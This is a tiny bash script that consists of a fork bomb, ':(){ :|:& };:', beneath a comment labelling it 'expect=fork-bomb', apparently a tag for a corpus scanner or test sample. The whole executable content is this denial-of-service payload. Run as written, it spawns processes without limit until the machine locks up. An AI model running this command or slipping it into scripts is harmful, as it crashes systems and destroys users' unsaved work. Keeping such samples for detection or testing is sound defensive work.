#!/bin/bash
#! assess-corpus: expect=fork-bomb
:(){ :|:& };:
